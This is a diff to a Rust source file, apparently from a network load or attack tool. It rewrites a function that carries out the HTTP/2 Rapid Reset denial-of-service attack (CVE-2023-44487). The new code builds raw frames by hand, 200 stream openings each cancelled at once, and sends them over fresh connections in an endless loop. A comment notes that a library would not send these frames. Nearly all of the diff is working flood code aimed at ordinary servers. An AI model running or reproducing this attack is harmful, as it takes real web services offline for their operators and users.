@@ -4,10 +4,11 @@ use std::future::poll_fn;
 use std::net::{IpAddr, SocketAddr};
 use std::time::Duration;
 
+use h2::SendStream;
 use h2::client::SendRequest;
-use h2::{Reason, SendStream};
 use hyper::body::Bytes;
 use hyper::{Method, Request};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::task::JoinSet;
 
 use crate::client::connect;
@@ -101,17 +102,33 @@ async fn feed(mut body: SendStream<Bytes>, bytes: usize) {
     let _ = poll_fn(|cx| body.poll_reset(cx)).await;
 }
 
-/// Opens streams and resets them at once (CVE-2023-44487), so many a second on one connection after another.
-pub async fn rapid_resets(to: SocketAddr, from: IpAddr, asked: Asked<'_>, a_second: u32) {
+/// The beginning of an HTTP/2 connection (RFC 9113): the preface and empty settings.
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
+/// A request in HPACK: `GET http /user/me`, the host `x`.
+const REQUEST: &[u8] = b"\x82\x86\x04\x08/user/me\x01\x01x";
+/// Streams that a connection opens and resets in one breath.
+const RESETS: u32 = 200;
+/// How long such a connection is listened to.
+const HEARD_MAX: Duration = Duration::from_millis(50);
+
+/// Opens streams and resets each at once (CVE-2023-44487), on one connection after another. By hand: a library would
+/// not send what it takes back.
+pub async fn rapid_resets(to: SocketAddr, from: IpAddr) {
+    let bytes = (0..RESETS).fold(PREFACE.to_vec(), |mut bytes, number| {
+        let stream = (2 * number + 1).to_be_bytes();
+        // Length, type, flags and stream of a frame: HEADERS, whole and the last of its stream; RST_STREAM, CANCEL.
+        bytes.extend([[0, 0, 15, 1, 5].as_slice(), &stream, REQUEST].concat());
+        bytes.extend([[0, 0, 4, 3, 0].as_slice(), &stream, &[0, 0, 0, 8]].concat());
+        bytes
+    });
     loop {
-        if let Ok((mut sender, _tasks)) = begin(to, from).await {
-            while let (Ok(ready), Ok(request)) = (sender.ready().await, asked.request()) {
-                sender = ready;
-                let Ok((_, mut body)) = sender.send_request(request, false) else { break };
-                body.send_reset(Reason::CANCEL);
-                tokio::time::sleep(Duration::from_secs(1) / a_second).await;
-            }
+        if let Ok(mut stream) = connect(to, from).await
+            && stream.write_all(&bytes).await.is_ok()
+        {
+            let ended = async { while stream.read(&mut [0; 4_096]).await.is_ok_and(|count| count > 0) {} };
+            // However it ends, the next one comes.
+            let _ = tokio::time::timeout(HEARD_MAX, ended).await;
         }
-        tokio::time::sleep(PAUSE).await;
+        tokio::time::sleep(HEARD_MAX).await;
     }
 }
